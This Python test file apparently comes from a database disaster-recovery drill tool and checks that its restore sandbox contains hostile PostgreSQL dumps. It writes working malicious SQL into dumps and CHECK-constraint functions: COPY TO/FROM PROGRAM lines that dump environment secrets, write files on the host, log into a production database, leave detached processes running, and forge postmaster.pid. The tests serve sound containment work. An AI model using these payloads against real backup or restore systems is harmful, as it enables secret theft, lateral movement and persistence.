"""Backups written by an adversary: what a restore makes the restored server run must stay in the
drill's sandbox (drdrill/localpg/sandbox.py). Each test is one attack, carried out with
SQL that PostgreSQL itself executes on restore (COPY … TO PROGRAM, a CHECK constraint's function),
which no dump check can refuse; each asserts what escaped, as the team's adversary would try.

Real pieces throughout: pg_dump of a seeded database on the machine's PostgreSQL (our "production",
127.0.0.1:5432 and its socket in /var/run/postgresql), the real worker and Temporal, bubblewrap."""

from __future__ import annotations

import hashlib
import os
import random
import shutil
import socket
import subprocess
import threading
import uuid
from pathlib import Path

import psycopg
import pytest

from drdrill.providers.postgres.provider import PostgresProvider
from tests.pg_fixtures import ADMIN_DSN, cluster_root, create_source_db, drop_db, shop_dsn  # noqa: F401

PSQL = "/usr/lib/postgresql/15/bin/psql"
PG_DUMP = "/usr/lib/postgresql/15/bin/pg_dump"
CLOSING = "-- PostgreSQL database dump complete"

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None and os.environ.get("CI") is None, reason="bubblewrap is not installed")


def sql_literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def drill(source: str, validations: str, isolation: str = "") -> str:
    return f"""
version: 1
name: hostile-backup
objectives: {{rto: 15m, rpo: 30d}}
max_duration: 10m
{isolation}
targets:
  - name: shop
    provider: postgres
    source: {source}
    restore: {{jobs: 1, timeout: 5m}}
validations:
{validations}
"""


def run(drill_harness, text: str):
    return drill_harness.run(text, providers={"postgres": PostgresProvider()})


def plain_dump_with(dsn: str, out: Path, attack: str) -> Path:
    """A genuine plain pg_dump of `dsn` with `attack` slipped in before its closing line."""
    text = subprocess.run([PG_DUMP, "-d", dsn], capture_output=True, text=True, check=True).stdout
    head, _, tail = text.rpartition(CLOSING)
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(head + attack + "\n\n" + CLOSING + tail)
    return out


def production_reached(prod_dsn: str) -> list[str]:
    with psycopg.connect(prod_dsn) as conn:
        return [r[0] for r in conn.execute("SELECT via FROM pwned ORDER BY via").fetchall()]


def reach_production_program(prod_db: str, how: str) -> str:
    """A shell command that logs into production (trust auth, as postgres) and leaves a mark there."""
    host = "127.0.0.1" if how == "tcp" else "/var/run/postgresql"
    return f'{PSQL} -X -h {host} -p 5432 -U postgres -d {prod_db} -c "INSERT INTO pwned VALUES (\'{how}\')" 2>&1; echo {how}-tried'


@pytest.fixture
def production(monkeypatch):
    """A production database the attacks try to write to, and secrets in the worker's environment."""
    dsn = create_source_db("CREATE TABLE pwned (via text);")
    secret = f"s3cr3t-{uuid.uuid4().hex}"
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", secret)
    monkeypatch.setenv("SHOP_DSN", f"host=127.0.0.1 user=shop password={secret}-dsn dbname=shop")
    yield {"dsn": dsn, "db": psycopg.conninfo.conninfo_to_dict(dsn)["dbname"], "secret": secret}
    drop_db(dsn)


@pytest.fixture
def host_marker():
    """Where an escaped program would leave its mark on the host (the host's own /tmp)."""
    marker = Path("/tmp") / f"drdrill-hostile-{uuid.uuid4().hex[:10]}"
    yield marker
    marker.unlink(missing_ok=True)


def _cmdlines_with(needle: str) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if needle in (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace"):
                    pids.append(int(entry.name))
            except OSError:
                continue
    return pids


LOOT_CHECK = """  - {{type: sql, target: shop, name: no-secret-in-loot, query: "SELECT count(*) FROM loot WHERE line LIKE '%{secret}%'", expect: "== 0"}}
  - {{type: sql, target: shop, name: loot-env, query: "SELECT count(*) FROM loot WHERE line LIKE 'USER=drdrill-restore'", expect: "== 1"}}"""


def test_plain_dump_copy_to_program_reaches_nothing_outside_the_sandbox(drill_harness, production, host_marker, shop_dsn, tmp_path, cluster_root):
    attack = "\n".join([
        "CREATE TABLE public.loot (line text);",
        "COPY public.loot FROM PROGRAM 'env';",
        f"COPY (SELECT 1) TO PROGRAM {sql_literal(f'echo escaped > {host_marker}; echo escaped > {tmp_path}/escaped')};",
        f"COPY public.loot FROM PROGRAM {sql_literal(reach_production_program(production['db'], 'tcp'))};",
        f"COPY public.loot FROM PROGRAM {sql_literal(reach_production_program(production['db'], 'socket'))};",
    ])
    plain_dump_with(shop_dsn, tmp_path / "b" / "shop.sql", attack)

    result = run(drill_harness, drill(f"{{path: '{tmp_path}/b/*.sql'}}", LOOT_CHECK.format(secret=production["secret"])))

    # Nothing escaped: no mark on the host, no secret read, production untouched.
    checks = {v.name: v for v in result.validations}
    assert production_reached(production["dsn"]) == []
    assert not host_marker.exists() and not (tmp_path / "escaped").exists()
    assert checks["no-secret-in-loot"].outcome == "PASSED", checks["no-secret-in-loot"]
    assert production["secret"] not in Path(result.evidence_path).read_text()
    # The program did run, in the sandbox: as its uid, with an environment of its own.
    assert checks["loot-env"].outcome == "PASSED", checks["loot-env"]


def test_check_constraint_function_in_a_custom_archive_is_contained(drill_harness, production, host_marker, tmp_path, cluster_root):
    """A function planted as a CHECK constraint runs once per row pg_restore loads; at the source it
    stays quiet (its own database name), in any restore it attacks."""
    program = "; ".join([
        f"echo escaped > {host_marker}",
        reach_production_program(production["db"], "tcp"),
        reach_production_program(production["db"], "socket"),
        "env",
    ])
    loot = f"/tmp/drdrill-loot-{uuid.uuid4().hex[:10]}"  # the server's /tmp: the sandbox's own, or the host's
    source = create_source_db(f"""
CREATE TABLE loot (line text);
CREATE FUNCTION pwn(int) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
  IF current_database() <> current_setting('drdrill.test_source', true) OR current_setting('drdrill.test_source', true) IS NULL THEN
    EXECUTE $x$COPY (SELECT 1) TO PROGRAM {sql_literal(f"({program}) > {loot}")}$x$;
    INSERT INTO public.loot SELECT regexp_split_to_table(pg_read_file({sql_literal(loot)}), E'\n');
  END IF;
  RETURN true;
END $f$;
""")
    try:
        src_db = psycopg.conninfo.conninfo_to_dict(source)["dbname"]
        with psycopg.connect(source, autocommit=True) as conn:
            conn.execute(f"ALTER DATABASE {src_db} SET drdrill.test_source = '{src_db}'")
        with psycopg.connect(source, autocommit=True) as conn:
            conn.execute("CREATE TABLE guarded (id int CHECK (pwn(id)))")
            conn.execute("INSERT INTO guarded VALUES (1)")
        dump = tmp_path / "b" / "shop.dump"
        dump.parent.mkdir()
        subprocess.run([PG_DUMP, "-Fc", "-f", str(dump), "-d", source], check=True, capture_output=True)
    finally:
        drop_db(source)
    request_cleanup = Path(loot)  # written on the host only when the program escaped

    try:
        result = run(drill_harness, drill(f"{{path: '{tmp_path}/b/*.dump'}}", LOOT_CHECK.format(secret=production["secret"])))
        escaped = request_cleanup.exists()
    finally:
        request_cleanup.unlink(missing_ok=True)

    checks = {v.name: v for v in result.validations}
    assert production_reached(production["dsn"]) == []
    assert not host_marker.exists()
    assert not escaped, f"the program wrote {request_cleanup} on the host"
    assert checks["no-secret-in-loot"].outcome == "PASSED", checks["no-secret-in-loot"]
    assert production["secret"] not in Path(result.evidence_path).read_text()
    assert checks["loot-env"].outcome == "PASSED", (checks["loot-env"], result.findings)


def test_a_process_the_restore_starts_does_not_survive_teardown(drill_harness, shop_dsn, tmp_path, cluster_root):
    token = f"{random.randint(100000, 999999)}.{random.randint(100, 999)}"  # a sleep no one else runs
    attack = f"COPY (SELECT 1) TO PROGRAM {sql_literal(f'setsid sleep {token} </dev/null >/dev/null 2>&1 &')};"
    plain_dump_with(shop_dsn, tmp_path / "b" / "shop.sql", attack)
    try:
        result = run(drill_harness, drill(f"{{path: '{tmp_path}/b/*.sql'}}", "  - {type: sql, target: shop, name: up, query: 'SELECT 1', expect: '== 1'}"))

        assert result.teardown[0].deleted
        assert _cmdlines_with(f"sleep {token}") == [], "a process started by the restore outlived the drill"
    finally:
        for pid in _cmdlines_with(f"sleep {token}"):
            os.kill(pid, 9)


def test_a_forged_postmaster_pid_does_not_make_teardown_kill_another_process(drill_harness, shop_dsn, tmp_path, cluster_root):
    victim = subprocess.Popen(["sleep", "600"])  # a process of the worker's, unrelated to the drill
    try:
        attack = (
            "DO $$ BEGIN EXECUTE format('COPY (SELECT %L) TO %L', "
            f"'{victim.pid}', current_setting('data_directory') || '/postmaster.pid'); END $$;"
        )
        plain_dump_with(shop_dsn, tmp_path / "b" / "shop.sql", attack)

        result = run(drill_harness, drill(f"{{path: '{tmp_path}/b/*.sql'}}", "  - {type: sql, target: shop, name: up, query: 'SELECT 1', expect: '== 1'}"))

        assert result.teardown[0].deleted
        assert victim.poll() is None, f"teardown killed process {victim.pid}, named by the restored server's postmaster.pid"
    finally:
        victim.kill()
        victim.wait()


class PlantedSocket:
    """A production-like server's socket planted in the default socket directory: a real listening
    Unix socket that records every connection made to it."""

    def __init__(self) -> None:
        os.makedirs("/var/run/postgresql", exist_ok=True)
        taken = set(os.listdir("/var/run/postgresql"))
        self.port = next(p for p in random.sample(range(40000, 60000), 200) if f".s.PGSQL.{p}" not in taken)
        self.path = f"/var/run/postgresql/.s.PGSQL.{self.port}"
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.bind(self.path)
        os.chmod(self.path, 0o777)
        self.sock.listen(16)
        self.connections = 0
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.sock.close()
        os.unlink(self.path)
        self._thread.join(timeout=5)


def test_a_production_socket_in_the_default_directory_is_unreachable_and_the_proof_says_so(
    drill_harness, shop_dsn, tmp_path, cluster_root, monkeypatch
):
    planted = PlantedSocket()
    try:
        monkeypatch.setenv("PLANTED_PRODUCTION_DSN", f"host=/var/run/postgresql port={planted.port} user=postgres dbname=postgres")
        assert Path(planted.path).is_socket()  # listening on the host
        program = f"{PSQL} -X -h /var/run/postgresql -p {planted.port} -U postgres -d postgres -c 'SELECT 1' 2>&1; echo tried"
        attack = f"CREATE TABLE public.loot (line text);\nCOPY public.loot FROM PROGRAM {sql_literal(program)};"
        plain_dump_with(shop_dsn, tmp_path / "b" / "shop.sql", attack)

        result = run(drill_harness, drill(
            f"{{path: '{tmp_path}/b/*.sql'}}", "  - {type: sql, target: shop, name: up, query: 'SELECT 1', expect: '== 1'}",
            isolation="isolation: {production_dsn_env: PLANTED_PRODUCTION_DSN}",
        ))

        proof = {c.name: c for c in result.isolation[0].checks}
        production = proof["production unreachable from inside"]
        assert production.outcome == "PASSED", production
        assert f"Unix socket {planted.path}: no such file or directory" in production.detail
        assert proof["production's socket directories private"].outcome == "PASSED"
        assert "/var/run/postgresql: no PostgreSQL socket" in proof["production's socket directories private"].detail
        assert planted.connections == 0, "the restore reached the planted socket"
        assert result.restored, "the drill restored (the sandbox contained the attempt)"
    finally:
        planted.close()


def test_a_dump_file_restores_under_network_isolation_on_the_clusters_own_port(drill_harness, shop_dsn, tmp_path, cluster_root, monkeypatch):
    """isolation.postgres: network: the cluster listens on 55432 in the drill's namespace, and a
    path: dump is restored over its socket on that port (it used to be sent to 5432 and fail)."""
    monkeypatch.setenv("SHOP_PRODUCTION_DSN", shop_dsn)
    dump = plain_dump_with(shop_dsn, tmp_path / "b" / "shop.sql", "")
    Path(f"{dump}.sha256").write_text(f"{hashlib.sha256(dump.read_bytes()).hexdigest()}  {dump.name}\n")  # what sha256sum writes
    result = run(drill_harness, drill(
        f"{{path: '{tmp_path}/b/*.sql'}}", "  - {type: sql, target: shop, name: orders, query: 'SELECT 1', expect: '== 1'}",
        isolation="isolation: {postgres: network, production_dsn_env: SHOP_PRODUCTION_DSN}",
    ))

    # Restored, without a finding (the sql check needs a probe inside the namespace; none is asked for).
    assert result.isolation[0].outcome == "PASSED"
    assert result.findings == [] and next(e for e in result.timeline if e.phase == "restore").outcome == "PASSED"
    assert result.restored[0].endpoint["port"] == 55432 and "psql" in result.restored[0].description
    assert result.teardown[0].deleted


# ---------------------------------------------------------------- the sandbox itself


def test_a_process_in_the_sandbox_has_its_own_uid_no_secret_no_capability_and_no_view_of_the_host(tmp_path, monkeypatch):
    from drdrill.localpg import sandbox

    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "worker-secret")
    meta = tmp_path / "meta"
    meta.mkdir(mode=0o711)
    ident = sandbox.identity_for(meta)
    box = sandbox.Sandbox(ident, env={"NAMED": "by-the-drill"})
    proc = box.run(["/bin/sh", "-c", f"id -u; grep CapEff /proc/self/status; env; ls -a /tmp /run/postgresql; ls {tmp_path} 2>&1; ls /proc | grep -c '^[0-9]'"])

    assert proc.stdout, proc.stderr
    lines = proc.stdout.splitlines()
    assert int(lines[0]) == ident.uid and ident.uid >= sandbox.UID_BASE
    assert lines[1].split() == ["CapEff:", "0000000000000000"]
    assert "NAMED=by-the-drill" in lines and "worker-secret" not in proc.stdout
    assert f"ls: cannot access '{tmp_path}': No such file or directory" in proc.stdout
    assert int(lines[-1]) <= 5, "the sandbox sees only its own processes (its PID namespace): init, sh and the pipeline"
    assert sandbox.identity_for(meta) == ident  # recorded: the drill keeps its uid


def test_teardown_never_believes_a_record_that_names_another_process(tmp_path):
    from drdrill.localpg import sandbox

    victim = subprocess.Popen(["sleep", "600"])
    try:
        record = tmp_path / "server.sandbox.json"
        record.write_text(f'{{"pid": {victim.pid}, "starttime": {sandbox.starttime(victim.pid) + 1}}}')  # a pid reused since
        assert sandbox.alive(record) is False
        assert sandbox.stop(record) is False
        record.write_text(f'{{"pid": {victim.pid}, "starttime": {sandbox.starttime(victim.pid)}}}')
        os.chown(record, 12345, 12345)  # written by someone else than drdrill
        assert sandbox.alive(record) is False and sandbox.stop(record) is False
        assert victim.poll() is None
    finally:
        victim.kill()
        victim.wait()


@pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox has a uid of its own only for root")
def test_teardown_kills_whatever_still_runs_as_the_drills_sandbox_uid(cluster_root):  # noqa: F811
    """A sandbox can outlive its outer bwrap (killed before --die-with-parent is armed): whatever
    still runs as the drill's own uid when its cluster is torn down is killed, and nothing else."""
    from drdrill.localpg import sandbox
    from drdrill.localpg.cluster import LocalCluster

    path = cluster_root / f"drdrill-orphan-{uuid.uuid4().hex[:6]}"
    path.mkdir(mode=0o700)
    ident = sandbox.identity_for(path)
    orphan = subprocess.Popen(["setpriv", f"--reuid={ident.uid}", f"--regid={ident.gid}", "--clear-groups", "sleep", "600"],
                              start_new_session=True, cwd="/")
    bystander = subprocess.Popen(["sleep", "600"], start_new_session=True)  # the worker's own uid: never touched
    try:
        assert LocalCluster(path).destroy()
        assert orphan.wait(timeout=60) == -9
        assert bystander.poll() is None
    finally:
        for proc in (orphan, bystander):
            if proc.poll() is None:
                proc.kill()
                proc.wait()
